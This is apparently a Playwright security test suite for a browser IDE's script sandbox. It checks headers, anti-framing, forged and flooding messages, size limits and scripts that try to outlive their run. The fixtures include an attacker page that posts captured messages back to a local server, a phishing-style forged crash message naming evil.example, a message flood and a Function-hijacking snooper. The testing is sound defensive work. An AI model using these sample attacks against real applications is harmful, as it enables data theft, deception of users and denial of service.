/**
 * The script sandbox under attack (issue 12, points 1-4 and the sandbox parts of 12): the
 * headers the IDE is served with, framing by another site, a navigated sandbox, forged
 * and flooding replies, scripts that try to outlive their run, and what a run keeps of
 * its console. The attacker's pages are served by the test itself on another port.
 */
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { expect, type Page, test } from "@playwright/test";
import { openApp, waitForRun } from "./helpers.js";

const ONE_CELL = `import * as jx from "@dendrolab/core";
const network = new jx.Cell();
network.record("v");
export default network;
`;

/** An HTTP server on a free port answering `page(path)`; `bodies` collects what is POSTed to it. */
async function attackerServer(
  page: (path: string) => string,
): Promise<{ url: string; bodies: string[]; close(): Promise<void> }> {
  const bodies: string[] = [];
  const server: Server = createServer((req, res) => {
    if (req.method === "POST") {
      let body = "";
      req.on("data", (c) => {
        body += c;
      });
      req.on("end", () => {
        bodies.push(body);
        res.end();
      });
      return;
    }
    res.setHeader("Content-Type", "text/html");
    res.end(page(req.url ?? "/"));
  });
  await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}/`,
    bodies,
    close: () =>
      new Promise((r) => {
        server.close(() => r());
        server.closeAllConnections();
      }),
  };
}

type Dendrolab = {
  actions: { setScript(s: string): void; run(): Promise<void>; importFile(n: string, t: string): unknown };
};

/** Sets the script and runs it; waits for the run to end; returns the run status. */
async function runScript(page: Page, script: string): Promise<string> {
  await page.evaluate((s) => {
    const d = (window as unknown as { dendrolab: Dendrolab }).dendrolab;
    d.actions.setScript(s);
    void d.actions.run();
  }, script);
  await page.waitForTimeout(50);
  return waitForRun(page);
}

const runError = (page: Page) => page.getByTestId("run-error");
const consoleText = async (page: Page) => (await page.getByTestId("console").textContent()) ?? "";

/** Marks the current sandbox iframe, so that a test can see it replaced. */
const markSandbox = (page: Page) =>
  page.evaluate(() => {
    (document.querySelector('[data-testid="script-sandbox"]') as HTMLElement).dataset.mark = "old";
  });
const oldSandbox = (page: Page) => page.locator('[data-testid="script-sandbox"][data-mark="old"]');

test("the app and the sandbox document are served with their security headers, and no CORS", async ({ request }) => {
  const app = await request.get("/", { headers: { Origin: "http://127.0.0.1:1" } });
  const h = app.headers();
  expect(h["content-security-policy"]).toContain("frame-ancestors 'none'");
  expect(h["content-security-policy"]).toContain("script-src 'self';");
  expect(h["content-security-policy"]).not.toContain("unsafe-eval");
  expect(h["content-security-policy"]).toContain("object-src 'none'");
  expect(h["content-security-policy"]).toContain("base-uri 'none'");
  expect(h["x-frame-options"]).toBe("DENY");
  expect(h["x-content-type-options"]).toBe("nosniff");
  expect(h["referrer-policy"]).toBe("no-referrer");
  expect(h["access-control-allow-origin"]).toBeUndefined();
  const sandbox = await request.get("sandbox.html", { headers: { Origin: "http://127.0.0.1:1" } });
  expect(sandbox.ok()).toBe(true);
  const s = sandbox.headers();
  expect(s["content-security-policy"]).toMatch(/^sandbox allow-scripts;/);
  expect(s["content-security-policy"]).toContain("connect-src 'none'");
  expect(s["content-security-policy"]).toContain("default-src 'none'");
  expect(s["access-control-allow-origin"]).toBeUndefined();
});

test("another site cannot frame the IDE", async ({ page, baseURL }) => {
  const attacker = await attackerServer(
    () => `<!doctype html><iframe id="f" src="${baseURL}" onload="document.title='loaded'"></iframe>`,
  );
  try {
    await page.goto(attacker.url);
    await expect(page).toHaveTitle("loaded");
    const inner = page.frames().filter((f) => f !== page.mainFrame());
    expect(inner.length).toBe(1);
    const hasApp = await inner[0].evaluate(() => document.getElementById("root") !== null).catch(() => false);
    expect(hasApp).toBe(false);
  } finally {
    await attacker.close();
  }
});

for (const bypassCSP of [false, true]) {
  test.describe(bypassCSP ? "with the page's CSP bypassed" : "with the page's CSP", () => {
    test.use({ bypassCSP });
    test("a sandbox navigated away never receives the user's script; the page makes a new one", async ({ page }) => {
      // The attacker's page reports every message and port it gets, and answers like a sandbox would.
      const attacker = await attackerServer(
        () => `<!doctype html><script>
const report = (x) => fetch("/got", { method: "POST", body: String(x), mode: "no-cors" });
report("hello");
addEventListener("message", (e) => {
  report(JSON.stringify(e.data));
  for (const p of e.ports) { p.onmessage = (ev) => report(JSON.stringify(ev.data)); p.postMessage({ kind: "ready" }); }
});
parent.postMessage({ kind: "frame-ready" }, "*");
parent.postMessage({ kind: "ready" }, "*");
</script>`,
      );
      try {
        await openApp(page);
        await markSandbox(page);
        await page.evaluate((url) => {
          const f = document.querySelector('[data-testid="script-sandbox"]') as HTMLIFrameElement;
          f.contentWindow!.location.href = url;
        }, attacker.url);
        // The navigated frame is thrown away and a new sandbox made.
        await expect(oldSandbox(page)).toHaveCount(0);
        await expect(page.getByTestId("script-sandbox")).toHaveCount(1);
        const status = await runScript(page, `// USER-SECRET-7f3a\n${ONE_CELL}`);
        expect(status).toContain("Built in");
        await expect(page.getByTestId("tree-network")).toContainText("1 cells · 1 comps");
        expect(attacker.bodies.filter((b) => b.includes("USER-SECRET"))).toEqual([]);
        expect(attacker.bodies.filter((b) => b.includes('"run"'))).toEqual([]);
      } finally {
        await attacker.close();
      }
    });
  });
}

test("a reply with a guessed run id is refused; a second reply drops the sandbox", async ({ page }) => {
  await openApp(page);
  const forged = `const g = self as any;
for (let id = 1; id < 50; id++) g.postMessage({ kind: "result", id, model: { format: "forged" }, logs: [], ms: 0 });
${ONE_CELL}`;
  await runScript(page, forged);
  await expect(runError(page)).toContainText("unexpected message");
  expect(await runScript(page, ONE_CELL)).toContain("Built in");

  // A sandbox document that answers a run twice (as a compromised relay would) is thrown away.
  await markSandbox(page);
  const relay = page.frames().find((f) => f.url().endsWith("/sandbox.html"));
  expect(relay).toBeDefined();
  await relay!.evaluate(() => {
    const send = MessagePort.prototype.postMessage;
    MessagePort.prototype.postMessage = function (this: MessagePort, m: unknown) {
      send.call(this, m);
      send.call(this, m);
    } as typeof send;
  });
  expect(await runScript(page, `// answered twice\n${ONE_CELL}`)).toContain("Built in");
  await expect(oldSandbox(page)).toHaveCount(0);
  expect(await runScript(page, ONE_CELL)).toContain("Built in");
});

test("a forged crash text is not shown as the IDE's own message", async ({ page }) => {
  await openApp(page);
  const forged = `(self as any).postMessage({ kind: "crash", message: "FORGED: log in again at evil.example" });
while (true) {}`;
  await runScript(page, forged);
  await expect(runError(page)).toBeVisible();
  const text = (await runError(page).textContent()) ?? "";
  expect(text).not.toContain("The script sandbox stopped: FORGED");
  expect(text).toMatch(/unexpected message|The script reported/);
});

test("an error the script throws is shown as the script's, not as the IDE's", async ({ page }) => {
  await openApp(page);
  await runScript(page, `throw new Error("Dendrolab has crashed: log in again at evil.example");`);
  await expect(runError(page)).toContainText("log in again at evil.example");
  await expect(page.getByTestId("run-error-source")).toHaveText("Your script stopped with this error:");
  // The IDE's own messages (a run stopped for its time, a refused reply) carry no such label.
  await runScript(page, "while (true) {}");
  await expect(runError(page)).toContainText("infinite loop");
  await expect(page.getByTestId("run-error-source")).toHaveCount(0);
});

test("a finished run cannot flood the page, and an oversized reply is refused", async ({ page }) => {
  test.setTimeout(90_000);
  await openApp(page);
  const flood = `import * as jx from "@dendrolab/core";
const g = self as any;
const big = "x".repeat(200_000);
const numbers = new Array(25_000).fill(0.5); // 200 KB of numbers
setInterval(() => g.postMessage({ kind: "log", line: big }), 10);
setInterval(() => g.postMessage({ kind: "result", id: 1, model: { numbers }, logs: [big], ms: 0 }), 10);
const network = new jx.Cell();
network.record("v");
export default network;
`;
  expect(await runScript(page, flood)).toContain("Built in");
  // Two seconds of a flood would be 40 MB of messages; the page still answers.
  await page.waitForTimeout(2000);
  const answered = await page.evaluate(async (s) => {
    const d = (window as unknown as { dendrolab: Dendrolab }).dendrolab;
    d.actions.setScript(s);
    await d.actions.run();
    return true;
  }, `// after the flood\n${ONE_CELL}`);
  expect(answered).toBe(true);
  expect(await waitForRun(page)).toContain("Built in");

  const oversized = `const g = self as any;
g.postMessage({ kind: "result", id: "forged", model: { pad: "x".repeat(65 * 1024 * 1024) }, ms: 0, dropped: 0 });
${ONE_CELL}`;
  await runScript(page, oversized);
  await expect(runError(page)).toContainText("larger than 64.0 MB");
  expect(await runScript(page, ONE_CELL)).toContain("Built in");
});

test("a script that wraps Function and listens for messages does not reach later runs or files", async ({ page }) => {
  await openApp(page);
  const evil = `import * as jx from "@dendrolab/core";
const g = self as any;
const seen: string[] = [];
g.addEventListener("message", (e: MessageEvent) => seen.push(JSON.stringify(e.data).slice(0, 300)));
const F = g.Function;
g.Function = function (...args: string[]) {
  args[args.length - 1] = 'console.log("EVIL saw " + ' + JSON.stringify("x") + ' + JSON.stringify(globalThis.__seen));' + args[args.length - 1];
  return F(...args);
};
g.__seen = seen;
const network = new jx.Cell();
network.record("v");
export default network;
`;
  expect(await runScript(page, evil)).toContain("Built in");
  await page.evaluate(() => {
    const d = (window as unknown as { dendrolab: Dendrolab }).dendrolab;
    return d.actions.importFile("later-secret.swc", "1 1 0 0 0 5 -1\n2 3 0 20 0 1 1\n");
  });
  await waitForRun(page);
  const user = `import files from "dendrolab:files";\nconsole.log("user run", Object.keys(files).length);\n${ONE_CELL}`;
  expect(await runScript(page, user)).toContain("Built in");
  const text = await consoleText(page);
  expect(text).toContain("user run 1");
  expect(text).not.toContain("EVIL");
  expect(text).not.toContain("later-secret");
});

test("a one-line script after a runaway run is not blamed for an infinite loop", async ({ page }) => {
  await openApp(page);
  const leftover = `import * as jx from "@dendrolab/core";
setTimeout(() => { while (true) {} }, 0);
const network = new jx.Cell();
network.record("v");
export default network;
`;
  expect(await runScript(page, leftover)).toContain("Built in");
  await page.waitForTimeout(200);
  expect(await runScript(page, ONE_CELL)).toContain("Built in");
  await runScript(page, "while (true) {}");
  await expect(runError(page)).toContainText("infinite loop");
  expect(await runScript(page, ONE_CELL)).toContain("Built in");
});

test("a stopped run keeps its console, and a long console says how much was dropped", async ({ page }) => {
  await openApp(page);
  await runScript(page, 'console.log("before the loop");\nwhile (true) {}');
  await expect(runError(page)).toContainText("infinite loop");
  expect(await consoleText(page)).toContain("before the loop");

  const chatty = `console.log("y".repeat(5000));
for (let i = 0; i < 1250; i++) console.log("line " + i);
${ONE_CELL}`;
  expect(await runScript(page, chatty)).toContain("Built in");
  const text = await consoleText(page);
  expect(text).toContain("3,000 more characters not shown");
  expect(text).toContain("line 198");
  expect(text).not.toContain("line 199");
  expect(text).toContain("1,051 more console lines were not kept");
});

test("a script that reaches for tfjs runs (again, in the worker with tfjs), and its console lines appear once", async ({
  page,
}) => {
  await openApp(page);
  const withTf = `import * as jx from "@dendrolab/core";
import * as tf from "@tensorflow/tfjs";
import { HH } from "@dendrolab/core/channels";
console.log("start");
const network = new jx.Cell(new jx.Branch(new jx.Compartment(), 2), [-1, 0]);
network.insert(new HH());
network.branch(0).comp(0).record("v");
const v = jx.integrate(network, { tMax: 2 }) as tf.Tensor;
console.log("samples", v.shape[1], "sum of two", tf.add(tf.scalar(1), tf.scalar(1)).dataSync()[0]);
export default network;
`;
  expect(await runScript(page, withTf)).toContain("Built in");
  const text = await consoleText(page);
  expect(text).toContain("samples 81 sum of two 2");
  expect(text.match(/start/g)?.length).toBe(1);
  // The next runs (with and without tfjs) work too, in fresh workers.
  expect(await runScript(page, withTf.replace('"start"', '"again"'))).toContain("Built in");
  expect(await consoleText(page)).toContain("again");
  const plain = `console.log("plain run");\n${ONE_CELL}`;
  expect(await runScript(page, plain)).toContain("Built in");
  expect(await consoleText(page)).toContain("plain run");
  // A script that catches tfjs's absence still gets tfjs: the result does not depend on the worker.
  const caught = `import * as jx from "@dendrolab/core";
let has = "yes";
try { jx.integrate; } catch { has = "no"; }
console.log("integrate available:", has);
${ONE_CELL.replace('import * as jx from "@dendrolab/core";\n', "")}`;
  expect(await runScript(page, caught)).toContain("Built in");
  expect(await consoleText(page)).toContain("integrate available: yes");
});
